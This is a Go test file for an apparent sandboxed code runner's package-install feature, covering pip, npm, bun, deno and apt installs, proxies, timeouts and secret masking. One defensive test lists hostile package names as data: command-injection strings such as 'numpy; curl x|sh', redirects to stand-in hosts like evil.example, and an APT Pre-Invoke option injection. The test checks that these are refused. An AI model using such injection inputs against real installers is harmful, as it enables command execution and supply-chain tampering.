package engine

import (
	"encoding/json"
	"errors"
	"log/slog"
	"net/http"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/containerd/errdefs"

	"github.com/isol8/isol8/internal/pkgtest"
	"github.com/isol8/isol8/registry"
)

// Package installs against registries the test starts on host loopback.
// The sandboxes use the host network (the filtered network is built
// elsewhere); under filtered the same installers reach the same servers
// through the proxy variables.

// installEngine is an engine on the host network whose installs use reg.
func installEngine(t *testing.T, reg registry.Config, opts Options) *Engine {
	t.Helper()
	opts.Network = NetworkHost
	opts.Registries = &reg
	e := newTestEngine(t, opts)
	return e
}

func timedRun(t *testing.T, e *Engine, req Request) (*Result, time.Duration) {
	t.Helper()
	start := time.Now()
	res, err := e.Execute(t.Context(), req)
	if err != nil {
		t.Fatalf("Execute(%s, install %q): %v", req.Runtime, req.InstallPackages, err)
	}
	return res, time.Since(start)
}

func TestInstallPythonFromIndex(t *testing.T) {
	wheel := pkgtest.BuildWheel(t, "isol8_probe", "1.0", "isol8_probe", "wheel-ok")
	idx := pkgtest.PyPIIndex(t, "isol8-probe", "isol8_probe-1.0-py3-none-any.whl", wheel)
	e := installEngine(t, registry.Config{PipIndexURL: idx.URL + "/simple"}, Options{})
	mustHaveImage(t, e, "python")
	res, d := timedRun(t, e, Request{Runtime: "python", InstallPackages: []string{"isol8-probe==1.0"},
		Code: "import isol8_probe, os\nprint(isol8_probe.VALUE, isol8_probe.__file__, os.getuid())"})
	if res.ExitCode != 0 || !strings.Contains(res.Stdout, "wheel-ok /sandbox/.local/lib/python3") || !strings.HasSuffix(res.Stdout, " 100") {
		t.Fatalf("exit %d stdout %q stderr %q", res.ExitCode, res.Stdout, res.Stderr)
	}
	if !idx.WasAsked("/files/isol8_probe-1.0-py3-none-any.whl") {
		t.Fatalf("the wheel was not fetched from the test index: %q", idx.Hits())
	}
	t.Logf("python install+run: %v", d)
}

func TestInstallNodeBunDenoFromRegistry(t *testing.T) {
	tgz := pkgtest.NpmTarball(t, "isol8-probe", "1.0.0", "npm-ok")
	for _, tc := range []struct {
		runtime, pkg, code, want string
	}{
		// import.meta.resolve proves the package came from node_modules
		// (bun would otherwise auto-install it at run time).
		{"node", "isol8-probe@1.0.0", `import v from "isol8-probe"; console.log(v, import.meta.resolve("isol8-probe"), process.getuid());`,
			"npm-ok file:///sandbox/node_modules/isol8-probe/index.js 100"},
		{"bun", "isol8-probe@^1", `import v from "isol8-probe"; console.log(v, import.meta.resolve("isol8-probe"), process.getuid());`,
			"npm-ok file:///sandbox/node_modules/isol8-probe/index.js 100"},
		{"deno", "isol8-probe@1.0.0", `import v from "npm:isol8-probe@1.0.0"; console.log(v, Deno.env.get("DENO_DIR"));`,
			"npm-ok /sandbox/.deno"},
	} {
		t.Run(tc.runtime, func(t *testing.T) {
			reg := pkgtest.NpmRegistry(t, "isol8-probe", "1.0.0", tgz)
			e := installEngine(t, registry.Config{NpmRegistry: reg.URL + "/"}, Options{})
			mustHaveImage(t, e, tc.runtime)
			res, d := timedRun(t, e, Request{Runtime: tc.runtime, InstallPackages: []string{tc.pkg}, Code: tc.code})
			if res.ExitCode != 0 || res.Stdout != tc.want {
				t.Fatalf("exit %d stdout %q stderr %q (registry saw %q)", res.ExitCode, res.Stdout, res.Stderr, reg.Hits())
			}
			if !reg.WasAsked("/isol8-probe/-/isol8-probe-1.0.0.tgz") {
				t.Fatalf("the tarball was not fetched from the test registry: %q", reg.Hits())
			}
			t.Logf("%s install+run: %v", tc.runtime, d)
		})
	}
}

// Hostile package names are refused before any sandbox runs, with an
// invalid-argument error, and reach no registry.
func TestInstallHostileNamesRefused(t *testing.T) {
	idx := pkgtest.Start(t, http.NotFoundHandler())
	e := installEngine(t, registry.Config{PipIndexURL: idx.URL + "/simple", NpmRegistry: idx.URL + "/"}, Options{})
	for _, tc := range []struct{ runtime, pkg string }{
		{"python", "numpy; curl x|sh"},
		{"python", "--index-url http://evil"},
		{"python", "--index-url=http://evil"},
		{"python", "-e ."},
		{"python", "git+https://github.com/a/b"},
		{"python", "numpy @ https://evil.example/n.whl"},
		{"node", "left-pad && id"},
		{"node", "github:user/repo"},
		{"node", "user/repo"},
		{"node", "x@file:/etc"},
		{"bun", "--registry=http://evil"},
		{"deno", "https://evil.example/mod.ts"},
		{"deno", "'; id; '"},
		{"bash", "jq; id"},
		{"bash", "./evil.deb"},
		{"bash", "-oAPT::Update::Pre-Invoke::=id"},
	} {
		_, err := e.Execute(t.Context(), Request{Runtime: tc.runtime, Code: "1", Cmd: "", InstallPackages: []string{"ok", tc.pkg}})
		if err == nil || !errdefs.IsInvalidArgument(err) || !strings.Contains(err.Error(), "Invalid package name for "+tc.runtime) {
			t.Errorf("%s %q: err %v, want an invalid-argument refusal", tc.runtime, tc.pkg, err)
		}
	}
	if h := idx.Hits(); len(h) != 0 {
		t.Fatalf("a refused install reached the registry: %q", h)
	}
}

// A failed install ends the execution with the install's exit code and
// its stderr, secrets masked; the program does not run.
func TestInstallFailureMessage(t *testing.T) {
	idx := pkgtest.PyPIIndex(t, "isol8-probe", "isol8_probe-1.0-py3-none-any.whl", pkgtest.BuildWheel(t, "isol8_probe", "1.0", "isol8_probe", "x"))
	e := installEngine(t, registry.Config{PipIndexURL: idx.URL + "/simple"}, Options{Secrets: map[string]string{"TOKEN": "s3cretpkg"}})
	mustHaveImage(t, e, "python")
	_, err := e.Execute(t.Context(), Request{Runtime: "python", Code: "print('ran')", InstallPackages: []string{"s3cretpkg-missing"}})
	var se *SetupError
	if !errors.As(err, &se) || se.Kind != "install" || se.ExitCode != 1 {
		t.Fatalf("err = %#v, want an install SetupError with exit code 1", err)
	}
	msg := err.Error()
	if !strings.HasPrefix(msg, "Package install failed (exit code 1): ") || !strings.Contains(msg, "***-missing") ||
		strings.Contains(msg, "s3cretpkg") || strings.Contains(msg, "ran") {
		t.Fatalf("message = %q", msg)
	}
	if !idx.WasAsked("/simple/s3cretpkg-missing/") {
		t.Fatalf("pip did not ask the test index: %q", idx.Hits())
	}

	// Streaming: an error event with the same text, then exit with the code.
	ch, err := e.ExecuteStream(t.Context(), Request{Runtime: "python", Code: "print('ran')", InstallPackages: []string{"s3cretpkg-missing"}})
	if err != nil {
		t.Fatal(err)
	}
	var evs []Event
	for ev := range ch {
		evs = append(evs, ev)
	}
	if len(evs) < 2 || evs[len(evs)-2].Type != EventError || !strings.HasPrefix(evs[len(evs)-2].Data, "Package install failed (exit code 1): ") ||
		evs[len(evs)-1].Type != EventExit || evs[len(evs)-1].Data != "1" {
		t.Fatalf("events = %+v", evs)
	}
}

// What an install put in /sandbox is gone in the next execution of the
// pool, and the install left nothing in /tmp (the reset wipes both, but
// nothing of an install belongs outside /sandbox). With the host network
// the fast pool's reset check sees the host's sockets and replaces the
// sandbox instead of reusing it; either way nothing may be visible.
func TestInstallNotVisibleInNextPooledSandbox(t *testing.T) {
	wheel := pkgtest.BuildWheel(t, "isol8_probe", "1.0", "isol8_probe", "wheel-ok")
	idx := pkgtest.PyPIIndex(t, "isol8-probe", "isol8_probe-1.0-py3-none-any.whl", wheel)
	reg := registry.Config{PipIndexURL: idx.URL + "/simple"}
	e := fastPool(t, Options{Network: NetworkHost, Registries: &reg})
	mustHaveImage(t, e, "python")
	a := run(t, e, Request{Runtime: "python", InstallPackages: []string{"isol8-probe"},
		Code: "import isol8_probe, os; print(isol8_probe.VALUE, os.listdir('/tmp'))"})
	if a.ExitCode != 0 || a.Stdout != "wheel-ok []" {
		t.Fatalf("install run: exit %d stdout %q stderr %q", a.ExitCode, a.Stdout, a.Stderr)
	}
	b := run(t, e, Request{Runtime: "python", Code: "import os\ntry:\n import isol8_probe\n print('visible')\nexcept ImportError:\n print('gone', os.path.exists('/sandbox/.local'), os.listdir('/sandbox'))"})
	if b.ExitCode != 0 || b.Stdout != "gone False []" {
		t.Fatalf("next run: exit %d stdout %q stderr %q", b.ExitCode, b.Stdout, b.Stderr)
	}
	t.Logf("sandbox reused: %v", a.ContainerID == b.ContainerID)
}

// Bash installs: apt, as the sandbox user, downloads the package and the
// dependency the image lacks from the configured repository and unpacks
// both under /sandbox/.apt/root, which leads PATH.
func TestInstallBashFromDebianRepo(t *testing.T) {
	repo := pkgtest.DebRepo(t)
	e := installEngine(t, registry.Config{AptSources: "deb [trusted=yes] " + repo.URL + "/ ./\n"}, Options{})
	mustHaveImage(t, e, "bash")
	res, d := timedRun(t, e, Request{Runtime: "bash", InstallPackages: []string{"isol8-probe"},
		Code: "isol8-probe; command -v isol8-probe; id -u; ls /var/lib/dpkg/info | grep -c isol8 || true"})
	want := "deb-ok data-ok\n/sandbox/.apt/root/usr/bin/isol8-probe\n100\n0"
	if res.ExitCode != 0 || res.Stdout != want {
		t.Fatalf("exit %d stdout %q stderr %q (repo saw %q)", res.ExitCode, res.Stdout, res.Stderr, repo.Hits())
	}
	if !slices.ContainsFunc(repo.Hits(), func(p string) bool { return strings.HasSuffix(p, "/isol8-probe-data_1.0_all.deb") }) {
		t.Fatalf("the dependency was not fetched: %q", repo.Hits())
	}
	t.Logf("bash install+run: %v", d)

	_, err := e.Execute(t.Context(), Request{Runtime: "bash", Code: "echo ran", InstallPackages: []string{"isol8-no-such-package"}})
	if err == nil || !strings.HasPrefix(err.Error(), "Package install failed (exit code 100): ") ||
		!strings.Contains(err.Error(), "Unable to locate package isol8-no-such-package") {
		t.Fatalf("missing package: err = %v", err)
	}
}

// TestInstallTiming measures one small package's install per runtime from
// the loopback registries above: the install phase as the engine logs it
// ("install done"), p50/p95 over 7 runs each. Opt-in
// (ISOL8_BENCH_INSTALL=1): it takes about a minute.
func TestInstallTiming(t *testing.T) {
	if os.Getenv("ISOL8_BENCH_INSTALL") == "" {
		t.Skip("set ISOL8_BENCH_INSTALL=1 to measure install times")
	}
	wheel := pkgtest.BuildWheel(t, "isol8_probe", "1.0", "isol8_probe", "wheel-ok")
	idx := pkgtest.PyPIIndex(t, "isol8-probe", "isol8_probe-1.0-py3-none-any.whl", wheel)
	npm := pkgtest.NpmRegistry(t, "isol8-probe", "1.0.0", pkgtest.NpmTarball(t, "isol8-probe", "1.0.0", "npm-ok"))
	repo := pkgtest.DebRepo(t)
	logs := &syncBuffer{}
	e := installEngine(t, registry.Config{PipIndexURL: idx.URL + "/simple", NpmRegistry: npm.URL + "/",
		AptSources: "deb [trusted=yes] " + repo.URL + "/ ./\n"},
		Options{Logger: slog.New(slog.NewJSONHandler(logs, &slog.HandlerOptions{Level: slog.LevelDebug}))})
	for _, tc := range []struct{ runtime, code string }{
		{"python", "import isol8_probe"},
		{"node", `import v from "isol8-probe"`},
		{"bun", `import v from "isol8-probe"`},
		{"deno", `import v from "npm:isol8-probe"`},
		{"bash", "isol8-probe"},
	} {
		mustHaveImage(t, e, tc.runtime)
		for range 7 {
			if res, _ := timedRun(t, e, Request{Runtime: tc.runtime, InstallPackages: []string{"isol8-probe"}, Code: tc.code}); res.ExitCode != 0 {
				t.Fatalf("%s: exit %d stderr %q", tc.runtime, res.ExitCode, res.Stderr)
			}
		}
	}
	durs := map[string][]time.Duration{}
	for _, line := range strings.Split(logs.String(), "\n") {
		var rec struct {
			Msg     string `json:"msg"`
			Runtime string `json:"runtime"`
			Dur     int64  `json:"dur"`
		}
		if json.Unmarshal([]byte(line), &rec) == nil && rec.Msg == "install done" {
			durs[rec.Runtime] = append(durs[rec.Runtime], time.Duration(rec.Dur))
		}
	}
	for _, rt := range []string{"python", "node", "bun", "deno", "bash"} {
		if len(durs[rt]) != 7 {
			t.Fatalf("%s: %d install records, want 7", rt, len(durs[rt]))
		}
		p50, p95 := percentiles(durs[rt])
		t.Logf("%-6s install p50 %v p95 %v", rt, p50.Round(time.Millisecond), p95.Round(time.Millisecond))
	}
}

// A persistent sandbox keeps what an install put in /sandbox for its later
// executions.
func TestInstallPersistentKeepsPackages(t *testing.T) {
	tgz := pkgtest.NpmTarball(t, "isol8-probe", "1.0.0", "npm-ok")
	reg := pkgtest.NpmRegistry(t, "isol8-probe", "1.0.0", tgz)
	e := installEngine(t, registry.Config{NpmRegistry: reg.URL + "/"}, Options{Mode: ModePersistent})
	mustHaveImage(t, e, "node")
	a := run(t, e, Request{Runtime: "node", InstallPackages: []string{"isol8-probe"}, Code: `import v from "isol8-probe"; console.log(v)`})
	b := run(t, e, Request{Runtime: "node", Code: `import v from "isol8-probe"; console.log(v)`})
	if a.Stdout != "npm-ok" || b.Stdout != "npm-ok" || a.ContainerID != b.ContainerID {
		t.Fatalf("runs: %q/%q (stderr %q) in %s and %s", a.Stdout, b.Stdout, b.Stderr, a.ContainerID, b.ContainerID)
	}
}

// Every installer honours the proxy variables the filtered network sets:
// the registries are named by a host name that does not resolve, reachable
// only through a forward proxy given as HTTP_PROXY/http_proxy (here in the
// request environment, which installs see too).
func TestInstallThroughProxy(t *testing.T) {
	const host = "registry.isol8.test"
	wheel := pkgtest.BuildWheel(t, "isol8_probe", "1.0", "isol8_probe", "wheel-ok")
	for _, tc := range []struct {
		runtime, code, want string
		backend             func() *pkgtest.Server
		reg                 registry.Config
	}{
		{"python", "import isol8_probe; print(isol8_probe.VALUE)", "wheel-ok",
			func() *pkgtest.Server {
				return pkgtest.PyPIIndex(t, "isol8-probe", "isol8_probe-1.0-py3-none-any.whl", wheel)
			},
			registry.Config{PipIndexURL: "http://" + host + "/simple", PipTrustedHosts: []string{host}}},
		{"node", `import v from "isol8-probe"; console.log(v)`, "npm-ok",
			func() *pkgtest.Server {
				return pkgtest.NpmRegistry(t, "isol8-probe", "1.0.0", pkgtest.NpmTarball(t, "isol8-probe", "1.0.0", "npm-ok"))
			},
			registry.Config{NpmRegistry: "http://" + host + "/"}},
		{"bun", `import v from "isol8-probe"; console.log(v)`, "npm-ok",
			func() *pkgtest.Server {
				return pkgtest.NpmRegistry(t, "isol8-probe", "1.0.0", pkgtest.NpmTarball(t, "isol8-probe", "1.0.0", "npm-ok"))
			},
			registry.Config{NpmRegistry: "http://" + host + "/"}},
		{"deno", `import v from "npm:isol8-probe"; console.log(v)`, "npm-ok",
			func() *pkgtest.Server {
				return pkgtest.NpmRegistry(t, "isol8-probe", "1.0.0", pkgtest.NpmTarball(t, "isol8-probe", "1.0.0", "npm-ok"))
			},
			registry.Config{NpmRegistry: "http://" + host + "/"}},
		{"bash", "isol8-probe", "deb-ok data-ok", func() *pkgtest.Server { return pkgtest.DebRepo(t) },
			registry.Config{AptSources: "deb [trusted=yes] http://" + host + "/ ./\n"}},
	} {
		t.Run(tc.runtime, func(t *testing.T) {
			backend := tc.backend()
			proxy := pkgtest.ForwardProxy(t, backend)
			e := installEngine(t, tc.reg, Options{})
			mustHaveImage(t, e, tc.runtime)
			env := map[string]string{}
			for _, k := range []string{"HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy"} {
				env[k] = proxy.URL
			}
			res, err := e.Execute(t.Context(), Request{Runtime: tc.runtime, InstallPackages: []string{"isol8-probe"}, Code: tc.code, Env: env})
			if err != nil {
				t.Fatalf("Execute: %v (proxy saw %q)", err, proxy.Hits())
			}
			if res.ExitCode != 0 || res.Stdout != tc.want {
				t.Fatalf("exit %d stdout %q stderr %q (proxy saw %q)", res.ExitCode, res.Stdout, res.Stderr, proxy.Hits())
			}
			if len(proxy.Hits()) == 0 || len(backend.Hits()) != len(proxy.Hits()) {
				t.Fatalf("proxy saw %q, registry saw %q", proxy.Hits(), backend.Hits())
			}
		})
	}
}

// An install that hangs (a registry that never answers) is killed at the
// execution's timeout and reported with exit code 137.
func TestInstallTimeout(t *testing.T) {
	release := make(chan struct{})
	hang := pkgtest.Start(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		select {
		case <-release:
		case <-r.Context().Done():
		}
	}))
	defer close(release)
	e := installEngine(t, registry.Config{NpmRegistry: hang.URL + "/"}, Options{})
	mustHaveImage(t, e, "node")
	start := time.Now()
	_, err := e.Execute(t.Context(), Request{Runtime: "node", Code: "1", TimeoutMs: 2000, InstallPackages: []string{"isol8-probe"}})
	var se *SetupError
	if !errors.As(err, &se) || se.Kind != "install" || se.ExitCode != 137 || !se.TimedOut ||
		!strings.HasPrefix(err.Error(), "Package install failed (exit code 137): PACKAGE INSTALL TIMED OUT") {
		t.Fatalf("err = %v", err)
	}
	if d := time.Since(start); d > 15*time.Second {
		t.Fatalf("took %v", d)
	}
	if len(hang.Hits()) == 0 {
		t.Fatal("npm never asked the registry")
	}
}
